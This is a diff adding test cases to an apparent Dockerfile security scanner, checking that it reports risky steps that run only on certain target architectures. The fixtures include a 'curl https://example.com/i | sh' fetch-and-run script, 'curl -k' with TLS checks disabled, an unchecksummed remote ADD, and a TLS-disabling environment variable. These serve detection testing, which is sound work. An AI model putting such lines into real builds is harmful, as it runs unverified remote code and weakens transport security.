@@ -258,6 +258,46 @@ describe('a text of a Dockerfile beside a variable that no build sets', () => {
     'ARG V=1\nARG W\nFROM alpine:3.22${W}\nARG V\nARG W\nRUN echo v${V} v${W}\n',
   ])('is nothing of %s', async (text) => expect(await hidden(dockerfile(text))).toEqual([]));
 
+  const EVIL = '#!/bin/sh\ncurl https://example.com/i | sh\n';
+
+  it.each<[string, Files, string[]]>([
+    ['COPY i-$TARGETARCH.sh /k\nRUN sh /k', { 'i-amd64.sh': EVIL, 'i-arm64.sh': 'true' }, ['linux/amd64']],
+    ['COPY i-${TARGETARCH}.sh /k\nRUN sh /k', { 'i-arm64.sh': EVIL, 'i-amd64.sh': 'true' }, ['linux/arm64']],
+    ['COPY $TARGETARCH/ /k/\nENTRYPOINT ["/k/run.sh"]', { 's390x/run.sh': EVIL }, ['linux/s390x']],
+    [
+      'COPY bin/$TARGETOS/$TARGETARCH$TARGETVARIANT/ /k/\nRUN /k/a.sh',
+      { 'bin/linux/armv7/a.sh': EVIL },
+      ['linux/arm/v7'],
+    ],
+    ['RUN --mount=source=i-$TARGETARCH.sh,target=/k sh /k', { 'i-amd64.sh': EVIL }, ['linux/amd64']],
+    ['COPY . /k\nRUN sh /k/i-$TARGETARCH.sh', { 'i-riscv64.sh': 'curl -k https://example.com/a' }, ['linux/riscv64']],
+    ['COPY key-$TARGETARCH.pem /k', { 'key-amd64.pem': KEY }, ['linux/amd64']],
+  ])('is told by the platform: %s', async (instructions, files, platforms) => {
+    const text = `FROM alpine:3.22\nARG TARGETARCH TARGETOS TARGETVARIANT\n${instructions}\n`;
+    const { notifications } = await scanFiles({ Dockerfile: text, ...files });
+    const told = notifications.flatMap(
+      ({ message }) => /^This depends on the platform of the build: on (\S+),/.exec(message)?.[1] ?? [],
+    );
+    expect(told).toEqual(platforms);
+  });
+
+  it('reads stages that the platform chooses', async () => {
+    const text = `FROM alpine:3.22 AS s-amd64\nADD https://example.com/x /x\nFROM alpine:3.22 AS s-arm64\nFROM s-$TARGETARCH\nRUN sh /x\n`;
+    const { notifications } = await scanFiles(dockerfile(text));
+    expect(notifications.flatMap(({ gap, message }) => (gap?.kind === 'unknown-value' ? message : []))).toEqual([
+      'This depends on the platform of the build: on linux/amd64, add-remote-no-checksum applies. Mend what is used on that platform.',
+    ]);
+  });
+
+  it.each<[string, Files]>([
+    ['COPY i-$TARGETARCH.sh /k\nRUN sh /k', { 'i-amd64.sh': 'true', 'i-arm64.sh': 'true' }],
+    ['COPY bin-$TARGETARCH /usr/bin/a\nENTRYPOINT ["a"]', { 'bin-amd64': 'x', 'bin-arm64': 'y' }],
+    ['RUN curl -fsSLO https://example.com/a-$TARGETARCH && sha256sum -c sums', { 'other-amd64.sh': EVIL }],
+  ])('is nothing of %s', async (instructions, files) => {
+    const text = `FROM alpine:3.22\nARG TARGETARCH TARGETOS TARGETVARIANT\n${instructions}\n`;
+    expect(await hidden({ Dockerfile: text, ...files })).toEqual([]);
+  });
+
   it('is nothing where each build passes it', async () => {
     const text = 'FROM alpine:3.22\nARG U\nENV NODE_TLS_REJECT_UNAUTHORIZED=${U}0\n';
     const build = `services:\n  a:\n    build: {context: ., args: {U: "1"}}\n`;
